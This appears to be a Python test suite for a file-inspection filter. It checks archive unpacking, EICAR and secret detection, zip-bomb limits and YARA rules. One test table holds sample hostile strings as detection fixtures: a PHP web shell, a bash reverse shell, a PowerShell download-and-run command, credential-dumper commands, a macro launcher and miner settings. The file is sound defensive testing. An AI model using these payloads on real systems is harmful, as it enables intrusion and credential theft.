"""Objects: types, archives and bombs, rules, all judged as they are in transit."""

import bz2
import gzip
import io
import lzma
import tarfile
import zipfile
from dataclasses import replace
from pathlib import Path

import libarchive
import pytest

from filters.inspection.limits import DEFAULT_LIMITS
from filters.inspection.objects.file_type import FAMILIES, file_type
from filters.inspection.objects.rulebook import Rulebook
from filters.inspection.spec import OBJECT_FAMILIES, InspectionSpec
from filters.reason import DropReason
from tests.filters.inspection.drive import EICAR, SECRET, SPEC, toolbox


def zipped(files: dict[str, bytes], **options: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, **options) as archive:  # type: ignore[arg-type]
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def tarred(files: dict[str, bytes], mode: str = "w:gz") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, content in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            archive.addfile(info, io.BytesIO(content))
    return out.getvalue()


def seven_zipped(files: dict[str, bytes], path: Path) -> bytes:
    with libarchive.file_writer(str(path), "7zip") as archive:
        for name, content in files.items():
            archive.add_file_from_memory(name, len(content), content)
    return path.read_bytes()


def checks(data: bytes, spec: InspectionSpec = SPEC, **limits: int) -> list[str]:
    box = toolbox(replace(DEFAULT_LIMITS, **limits))  # type: ignore[arg-type]
    return [one.check for one in box.judge(spec).judge(data, "x")]


PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(3) + b"\x01" + bytes(3) + b"\x01\x08" + bytes(40)
FILES = {"a.txt": b"fine", "docs/b.txt": b"see " + EICAR + b" there"}


def test_every_archive_is_opened(tmp_path: Path) -> None:
    archives = {
        "zip": zipped(FILES), "tar": tarred(FILES, "w:"), "tar.gz": tarred(FILES), "tar.bz2": tarred(FILES, "w:bz2"), "tar.xz": tarred(FILES, "w:xz"),
        "7z": seven_zipped(FILES, tmp_path / "x.7z"), "gz": gzip.compress(EICAR), "bz2": bz2.compress(EICAR), "xz": lzma.compress(EICAR),
    }  # fmt: skip
    for name, data in archives.items():
        assert "malware.eicar" in checks(data), name
        assert "yara.eicar_test_file" in checks(data), name
    for name, data in {
        "zip": zipped({"a": b"x"}),
        "tar.gz": tarred({"a": b"x"}),
        "gz": gzip.compress(b"x"),
    }.items():
        assert checks(data) == [], name


def test_secrets_inside_archives_inside_archives_are_found() -> None:
    nested = zipped({"inner.tar.gz": tarred({"key.zip": zipped({"key.txt": SECRET})})})
    (found,) = toolbox().judge(SPEC).judge(nested, "body")
    assert (found.check, found.inside) == ("secrets.aws-access-key", "body/inner.tar.gz/key.zip/key.txt")
    assert SECRET.decode() not in found.evidence


def test_bombs_and_deep_nesting_hit_their_limits() -> None:
    data = b"x"
    for _ in range(8):
        data = zipped({"x.zip": data})
    assert checks(data) == ["depth"]
    assert checks(zipped({"zeros": bytes(100 << 20)})) == ["ratio"]
    assert checks(zipped({str(one): b"" for one in range(3000)})) == ["members"]
    assert checks(zipped({"a": b"q" * 3000, "b": b"q" * 3000}), unpacked=5000) == ["unpacked"]


def test_rejects_archives_that_programs_unpack_differently() -> None:
    clean, bad = zipped({"a.txt": b"fine"}), zipped({"b.txt": EICAR})
    with zipfile.ZipFile(io.BytesIO(bad)) as archive:
        hidden = bad[: archive.start_dir]
    assert checks(hidden + clean) == ["archive-ambiguous"]
    renamed = bytearray(clean)
    renamed[30:35] = b"b.exe"
    assert checks(bytes(renamed)) == ["archive-ambiguous"]
    assert checks(clean[:-10]) == ["archive-broken"]
    encrypted = bytearray(clean)
    encrypted[6] |= 1
    encrypted[clean.index(b"PK\x01\x02") + 8] |= 1
    assert checks(bytes(encrypted)) == ["archive-encrypted"]


def test_a_policy_may_name_every_family_and_no_other() -> None:
    assert tuple(FAMILIES) == OBJECT_FAMILIES


def test_types_come_from_content_and_rules_about_them_hold() -> None:
    program = Path("/bin/true").read_bytes()
    assert "executable" in file_type(program).families
    assert "executable" in file_type(b"MZ" + bytes(100)).families
    assert "script" in file_type(b"#!/bin/sh\necho x\n").families
    assert "image" in file_type(PNG).families
    no_programs = InspectionSpec(frozenset({"malware"}), deny_types=frozenset({"executable", "script"}))
    assert checks(program, no_programs) == ["object-type"]
    assert checks(zipped({"harmless.txt": program}), no_programs) == ["object-type"]
    assert checks(b"plain text", no_programs) == []
    only_images = InspectionSpec(frozenset(), allow_types=frozenset({"image"}))
    (found,) = toolbox().judge(only_images).judge(b"plain text", "x")
    assert (found.check, found.reason) == ("object-type", DropReason.DENIED_BY_RULE)
    assert checks(PNG, only_images) == []


FIRES = {
    "eicar_test_file": (EICAR, EICAR[:40]),
    "php_shell": (b"<?php system($_GET['c']); ?>", b"<?php system('ls'); ?>"),
    "jsp_shell": (b'Runtime.getRuntime().exec( request.getParameter("c"))', b"Runtime.getRuntime().exec(cmd)"),
    "reverse_shell": (b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", b"bash -i; echo /dev/tcp"),
    "powershell_download_and_run": (b"IEX (New-Object Net.WebClient).DownloadString('http://x')", b"Invoke-Expression is a cmdlet"),
    "credential_dumper": (b"sekurlsa::logonpasswords lsadump::sam", b"a text about lsadump::sam"),
    "office_macro_starts_a_program": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 AutoOpen CreateObject(\"WScript.Shell\")",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 AutoOpen",
    ),
    "coin_miner": (b'"url": "stratum+tcp://pool.example:3333", "donate-level": 1', b"stratum+tcp://pool.example:3333"),
}  # fmt: skip


@pytest.mark.parametrize("rule", list(FIRES))
def test_each_starter_rule_fires_and_leaves_its_look_alike(rule: str) -> None:
    bad, fine = FIRES[rule]
    book = Rulebook.load()
    assert [one.check for one in book.scan(bad, 5)] == [f"yara.{rule}"]
    assert book.scan(fine, 5) == []


def test_every_starter_rule_has_its_example() -> None:
    text = Path("filters/inspection/objects/rules/starter.yar").read_text()
    assert {line.split()[1] for line in text.splitlines() if line.startswith("rule ")} == set(FIRES)


def test_a_broken_file_of_rules_is_named_and_the_others_are_used(tmp_path: Path) -> None:
    (tmp_path / "bad.yar").write_text("rule broken { condition: nonsense }")
    (tmp_path / "good.yar").write_text('rule mine { strings: $a = "needle" condition: $a }')
    book = Rulebook.load([(one.name, one.read_text()) for one in tmp_path.iterdir()])
    assert [one.path for one in book.bad] == ["bad.yar"]
    assert "nonsense" in book.bad[0].problem
    assert [one.check for one in book.scan(b"a needle", 5)] == ["yara.mine"]
    assert book.scan(EICAR, 5)
